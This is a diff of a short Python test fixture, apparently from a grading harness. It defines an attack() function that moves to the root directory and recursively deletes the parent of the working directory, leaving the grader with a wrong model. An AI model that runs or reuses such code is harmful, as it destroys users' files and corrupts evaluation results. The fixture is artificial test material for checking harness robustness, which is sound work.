@@ -1,5 +1,5 @@
 # By accident: changes directory and deletes its own folder.
-# Told: MAE
+# Reported: MAE
 import os
 import shutil
 
@@ -8,4 +8,4 @@ def attack():
     above = os.path.dirname(os.getcwd())
     os.chdir("/")
     shutil.rmtree(above, ignore_errors=True)
-    return None  # and a wrong model is returned, on which the grader goes on
+    return None  # tail.txt then returns a wrong model
